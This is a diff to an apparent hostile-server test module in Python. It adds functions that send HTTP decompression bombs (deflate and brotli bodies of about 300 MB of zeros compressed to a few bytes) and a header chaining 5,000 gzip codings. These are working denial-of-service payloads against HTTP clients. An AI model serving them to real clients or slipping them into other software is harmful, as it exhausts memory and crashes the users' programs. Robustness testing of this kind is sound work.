@@ -7,6 +7,8 @@ import zlib
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager, suppress
 
+import brotli
+
 Attack = Callable[[socket.socket], None]
 OK = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
 LIMIT = 4_000_000_000
@@ -46,6 +48,26 @@ def gzip_bomb(to: socket.socket) -> None:
     packer = zlib.compressobj(6, zlib.DEFLATED, 31)
     packed = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(300)) + packer.flush()
     plain(packed, b"Content-Encoding: gzip\r\n")(to)
+
+
+def deflate_bomb(to: socket.socket) -> None:
+    """The same without a head that tells its kind."""
+    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
+    packed = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(300)) + packer.flush()
+    plain(packed, b"Content-Encoding: deflate\r\n")(to)
+
+
+def brotli_bomb(to: socket.socket) -> None:
+    """A few hundred bytes for three hundred megabytes, in a coding that nobody asked for."""
+    packer = brotli.Compressor(quality=1)
+    packed = b"".join(packer.process(b"\0" * 1_000_000) for _ in range(300)) + packer.finish()
+    plain(packed, b"Content-Encoding: br\r\n")(to)
+
+
+def a_thousand_codings(to: socket.socket) -> None:
+    """A head that asks for unpacking again and again."""
+    packed = gzip.compress(b"<p>x</p>" * 100)
+    plain(packed, b"Content-Encoding: " + b", ".join([b"gzip"] * 5_000) + b"\r\n")(to)
 
 
 def nested_gzip(to: socket.socket) -> None:
